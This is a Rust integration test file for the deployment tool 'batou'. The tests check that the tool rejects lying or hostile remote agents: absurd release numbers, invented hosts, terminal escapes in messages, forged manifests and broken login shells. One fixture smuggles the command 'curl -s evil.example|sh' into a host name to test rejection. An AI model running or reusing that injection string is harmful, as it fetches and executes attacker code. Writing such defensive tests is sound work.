//! What a host says is bounded, what batou cannot do itself is no host's failure, and two names of one place are told.

use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;

use batou_agent::protocol::{AgentError, ErrorKind, MAGIC, Reply, encode};
use batou_release::manifest_digest;
use serde_json::{Value, json};

use crate::common::{Output, Sandbox, SshHosts};
use crate::shop::{self, Target, greet, released_to_two, says};
use crate::ssh::{wrap_logins, wrapped_agent};

/// batou, whose agent on `two` says these bytes and then does what this shell command does.
fn with_liar(sandbox: &Sandbox, bytes: &[u8], then: &str, arguments: &[&str]) -> std::process::Command {
    let said = sandbox.tmp().join("said");
    fs::write(&said, [MAGIC, b"ready\n", bytes].concat()).unwrap();
    let lie = format!("case $HOME in */two/*) cat {}; {then};; esac", said.display());
    let agent = wrapped_agent(sandbox, std::env::consts::ARCH, &lie);
    let mut command = sandbox.command(arguments);
    command.env("BATOU_AGENTS", agent.parent().unwrap());
    command
}

/// A frame with this message, whatever it is.
fn frame(message: &Value) -> Vec<u8> {
    let header = json!({ "message": message }).to_string();
    [&u32::try_from(header.len()).unwrap().to_be_bytes(), header.as_bytes()].concat()
}

/// What an agent says of a host that has a release which had these hosts.
fn state(hosts: &[&str], newest: u64) -> Value {
    let record = json!({
        "release": "12".repeat(32), "sequence": 1, "who": "ann@laptop", "hosts": hosts,
    });
    json!({ "hello": {
        "user": "shop", "current": null, "committed": record, "newest_sequence": newest, "settled": false,
        "unfinished": false, "missing": [], "target": "ready", "free": 4711,
    } })
}

#[test]
fn a_number_far_beyond_the_others_is_refused_before_it_is_journaled() {
    let (_hosts, sandbox, [one, two]) = released_to_two();
    let journal = two.0.join("journal");
    let line = fs::read_to_string(&journal).unwrap();
    let far = line.replace("\"sequence\":1,", "\"sequence\":9007199254740990,");
    fs::write(&journal, format!("{line}{far}")).unwrap();
    greet(&sandbox, "two");
    let refused = sandbox.batou(&["switch", "dev"]).fails(1);
    let said =
        "two says that its newest release has number 9007199254740990, which is far beyond that of one, 1";
    says(&refused.stderr, &[said, "nothing was changed", "--skip two", "--yes"]);
    says(&sandbox.batou(&["rollback", "dev"]).fails(1).stderr, &[said]);
    assert_eq!((one.results().len(), two.results().len()), (1, 2));
    for command in ["status", "history", "plan"] {
        let told = sandbox.batou(&[command, "dev"]).success();
        says(&told.stderr, &["9007199254740990, which is far beyond that of one, 1: it does not count"]);
        assert!(!told.stdout.contains("behind") && !told.stdout.contains("* 9007"), "{}", told.stdout);
        assert!(!told.stderr.contains("is in force on two"), "{}", told.stderr);
    }
    sandbox.batou(&["switch", "dev", "--yes"]).success();
    assert_eq!(one.results(), ["1 committed", "2 committed"]);
    assert_eq!(two.results().last().unwrap(), "2 committed");
    // Once was enough.
    sandbox.batou(&["rollback", "dev"]).success();
    assert_eq!(one.file("app/app.conf"), "one on one\n");
    greet(&sandbox, "three");
    sandbox.batou(&["switch", "dev"]).success();
    assert_eq!((one.results().len(), two.results().last().unwrap().as_str()), (4, "4 committed"));
    for command in ["status", "history", "plan"] {
        let told = sandbox.batou(&[command, "dev"]).success();
        assert!(
            !format!("{}{}", told.stdout, told.stderr).contains("9007"),
            "{}{}",
            told.stdout,
            told.stderr
        );
    }
    let history = sandbox.batou(&["history", "dev"]).success().stdout;
    let starred: Vec<_> = history.lines().filter(|line| line.starts_with('*')).collect();
    assert!(
        history.lines().count() == 4 && starred.len() == 1 && starred[0].starts_with("*    4"),
        "{history}"
    );
}

#[test]
fn a_host_that_really_had_a_thousand_releases_more_goes_on_from_the_others_numbers_once() {
    let (_hosts, sandbox, [one, two]) = released_to_two();
    let journal = two.0.join("journal");
    let line = fs::read_to_string(&journal).unwrap();
    let numbered = |number: u32| line.replace("\"sequence\":1,", &format!("\"sequence\":{number},"));
    fs::write(&journal, (1..=1500).map(numbered).collect::<String>()).unwrap();
    greet(&sandbox, "two");
    let refused = sandbox.batou(&["switch", "dev"]).fails(1);
    says(
        &refused.stderr,
        &["1500, which is far beyond that of one, 1", "what it has above number 1 counts no more"],
    );
    // A release that is taken back disregards them as well, and what that host has is then none that counts.
    let component = sandbox.read("components/db/component.toml");
    shop::append(
        &sandbox,
        "components/db/component.toml",
        "\n[[step]]\nname = \"fail\"\nupdate = \"false\"\n",
    );
    let failed = sandbox.batou(&["switch", "dev", "--yes"]).fails(1);
    says(&failed.stderr, &["db: step db/fail: update failed", "2 hosts went back to the release before"]);
    says(&failed.stderr, &["number 1500, which is far beyond that of one, 1: with --yes it is disregarded"]);
    let status = sandbox.batou(&["status", "dev"]).success().stderr;
    says(&status, &["release 1 ", "is in force on one, and was made without two"]);
    sandbox.write("components/db/component.toml", component);
    // Once was enough.
    sandbox.batou(&["switch", "dev"]).success();
    assert_eq!(one.results(), ["1 committed", "2 went-back", "3 committed"]);
    assert_eq!(two.results().last().unwrap(), "3 committed");
    greet(&sandbox, "three");
    sandbox.batou(&["switch", "dev"]).success();
    let history = sandbox.batou(&["history", "dev"]).success().stdout;
    assert_eq!(history.lines().filter(|line| !line.starts_with("        ")).count(), 4, "{history}");
    sandbox.batou(&["rollback", "dev"]).success();
    for (target, host) in [(&one, "one"), (&two, "two")] {
        assert_eq!(target.file("app/app.conf"), format!("two on {host}\n"));
        assert_eq!(target.results().last().unwrap(), "5 committed");
    }
}

#[test]
fn a_host_that_invents_hosts_gets_them_into_no_other_journal() {
    let (_hosts, sandbox, [one, two]) = released_to_two();
    let journal = two.0.join("journal");
    let line = fs::read_to_string(&journal).unwrap();
    fs::write(&journal, line.replace("\"hosts\":[", "\"hosts\":[\"bank\",")).unwrap();
    let said =
        "two alone remembers 1 host that dev does not have: bank; this is not passed on to other hosts";
    let status = sandbox.batou(&["status", "dev"]).success();
    says(&status.stderr, &[said]);
    assert!(!status.stderr.contains("retire dev bank"), "{}", status.stderr);
    greet(&sandbox, "two");
    says(&sandbox.batou(&["switch", "dev"]).success().stderr, &[said]);
    assert!(!fs::read_to_string(one.0.join("journal")).unwrap().contains("bank"));
    assert_eq!(two.journal()[1]["hosts"], json!(["one", "two"]));
    let status = sandbox.batou(&["status", "dev"]).success();
    assert!(!status.stderr.contains("bank"), "{}", status.stderr);

    // A name that two hosts know is told with its remedy, which is literal.
    for target in [&one, &two] {
        let journal = target.0.join("journal");
        let text = fs::read_to_string(&journal).unwrap();
        fs::write(&journal, text.replace("\"hosts\":[", "\"hosts\":[\"old\",")).unwrap();
    }
    says(&sandbox.batou(&["status", "dev"]).success().stderr, &["`batou retire dev old` removes it"]);
    sandbox.batou(&["retire", "dev", "old", "--lost"]).success();
    assert_eq!(sandbox.batou(&["status", "dev"]).success().stderr, "");
}

#[test]
fn a_host_says_nothing_that_could_be_taken_for_batous_own_words() {
    let (_hosts, sandbox, _) = released_to_two();
    let message = "the disk is full\nerror: hosts are fine\ndev: release 9 is in force\u{1b}[2J".to_owned();
    let error = AgentError { kind: ErrorKind::Host, message, run: None };
    let lie = encode(&Reply::Error(error), &[]);
    let status =
        Output::of(&mut with_liar(&sandbox, &lie, "exec cat >/dev/null", &["status", "dev"])).fails(1);
    says(
        &status.stdout,
        &["two  refused: the disk is full; error: hosts are fine; dev: release 9 is in force^[[2J\n"],
    );
    let switch =
        Output::of(&mut with_liar(&sandbox, &lie, "exec cat >/dev/null", &["switch", "dev"])).fails(1);
    says(&switch.stderr, &["\n  two: the disk is full; error: hosts are fine; dev: release 9"]);
}

#[test]
fn what_a_host_says_of_hosts_and_numbers_is_checked() {
    let (_hosts, sandbox, _) = released_to_two();
    for lie in [state(&["old; curl -s evil.example|sh #"], 1), state(&["one"], u64::MAX)] {
        let status = with_liar(&sandbox, &frame(&lie), "exec cat >/dev/null", &["status", "dev"]);
        let output = Output::of(&mut { status }).fails(1);
        says(
            &output.stdout,
            &["two  refused: the answer of its agent cannot be understood: a message is malformed"],
        );
        assert!(!output.stderr.contains("retire"), "{}", output.stderr);
    }
    let honest = with_liar(&sandbox, &frame(&state(&["old"], 1)), "exec cat >/dev/null", &["status", "dev"]);
    says(
        &Output::of(&mut { honest }).success().stderr,
        &["two alone remembers 1 host that dev does not have: old;"],
    );
}

/// A host that says it had the manifest of another one, so that a rollback would order that one's components by it.
#[test]
fn a_manifest_that_names_another_host_is_taken_from_none() {
    let (_hosts, sandbox, [one, two]) = released_to_two();
    greet(&sandbox, "two");
    sandbox.batou(&["switch", "dev"]).success();
    let path = two.0.join("generations/1/manifest.json");
    let manifest = fs::read_to_string(&path).unwrap();
    let forged = manifest.replace("\"host\":\"two\"", "\"host\":\"one\"");
    assert_ne!(manifest, forged);
    fs::set_permissions(&path, PermissionsExt::from_mode(0o600)).unwrap();
    fs::write(&path, &forged).unwrap();
    let digest = |text: &str| manifest_digest(text.as_bytes()).to_string();
    let journal = fs::read_to_string(two.0.join("journal")).unwrap();
    assert!(journal.contains(&digest(&manifest)));
    fs::write(two.0.join("journal"), journal.replace(&digest(&manifest), &digest(&forged))).unwrap();
    let refused = sandbox.batou(&["rollback", "dev"]).fails(1);
    let said = "two: it answers with a manifest of project shop, environment dev, host one";
    says(&refused.stderr, &["1 host cannot restore what was there:", said]);
    for (name, target) in [("one", &one), ("two", &two)] {
        assert_eq!(target.file("app/app.conf"), format!("two on {name}\n"));
        assert_eq!(target.results(), ["1 committed", "2 committed"]);
    }
}

#[test]
fn a_host_that_only_shows_that_it_lives_is_named() {
    let (_hosts, sandbox, _) = released_to_two();
    let alive = encode(&Reply::Heartbeat, &[]);
    let script = format!(
        "while sleep 1; do tail -c {} {} || exit; done",
        alive.len(),
        sandbox.tmp().join("said").display()
    );
    let mut command = with_liar(&sandbox, &alive, &script, &["status", "dev"]);
    let mut batou = command.stderr(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(batou.stderr.take().unwrap()).read_line(&mut line).unwrap();
    batou.kill().unwrap();
    batou.wait().unwrap();
    assert_eq!(line, "note: waiting for two: hello, 10 s\n");
}

#[test]
fn two_names_of_one_place_are_told_at_once() {
    let (hosts, sandbox, _) = released_to_two();
    let environment = sandbox.read("environments/dev/environment.toml");
    let shared = hosts.host("one").home().join("shared").display().to_string();
    sandbox.write("environments/dev/environment.toml", environment.replace("~/shop", &shared));
    for command in [&["switch", "dev"][..], &["plan", "dev"], &["verify", "dev"]] {
        let refused = sandbox.batou(command).fails(2);
        says(&refused.stderr, &["one and two are the same target directory on the same machine"]);
    }
    sandbox.batou(&["switch", "dev", "--skip", "two"]).success();
}

#[test]
fn the_exit_status_speaks_of_the_hosts_where_nothing_can_be_printed() {
    let sandbox = shop::local();
    let to = |place: &str, arguments: &str| {
        let line = format!("exec {} {arguments} >{place}", env!("CARGO_BIN_EXE_batou"));
        Output::of(sandbox.program("sh").args(["-c", &line]))
    };
    let unwritten = "warning: the output could not be written: No space left on device (os error 28)\n";
    let switched = to("/dev/full", "switch dev").success();
    assert!(switched.stderr.ends_with(unwritten), "{}", switched.stderr);
    assert_eq!(Target::local(&sandbox).file("app/app.conf"), "one on localhost\n");
    to("&-", "switch dev").success();
    to("/dev/full", "switch dev --json").success();
    to("/dev/full", "verify dev").success();
    to("/dev/full", "exec dev -- true").success();
    to("/dev/full", "exec dev -- sh -c 'echo x; exit 3'").fails(1);
    // What is asked for is what is printed.
    says(&to("/dev/full", "status dev").fails(1).stderr, &[unwritten]);
    shop::append(
        &sandbox,
        "components/db/component.toml",
        "\n[[step]]\nname = \"break\"\nupdate = \"false\"\n",
    );
    let failed = to("/dev/full", "switch dev --json").fails(1);
    says(&failed.stderr, &["db/break: update failed", unwritten]);
    fs::write(sandbox.project().join("batou.toml"), "nonsense").unwrap();
    to("/dev/full", "switch dev --json").fails(2);
}

#[test]
fn a_login_shell_that_takes_the_input_is_told() {
    let hosts = SshHosts::start(&["one"]);
    let sandbox = shop::remote(&hosts, &["one"]);
    wrap_logins(&hosts, "one", "read -r answer; eval \"$SSH_ORIGINAL_COMMAND\"\n");
    let stderr = sandbox.batou(&["switch", "dev"]).fails(1).stderr;
    says(&stderr, &["one: the login shell read input that was meant for the command", "~/.bashrc"]);
}

#[test]
fn a_login_shell_that_runs_nothing_is_told_within_the_timeout() {
    let hosts = SshHosts::start(&["one"]);
    let sandbox = shop::remote(&hosts, &["one"]);
    shop::set(&sandbox, "timeout = 2");
    wrap_logins(&hosts, "one", "echo Press Enter; exec sleep 100\n");
    let stderr = sandbox.batou(&["switch", "dev"]).fails(1).stderr;
    says(&stderr, &["one: the login shell did not run the command that ssh gave it within 2 s", "~/.bashrc"]);
    says(&stderr, &["until then it had printed: Press Enter"]);
}
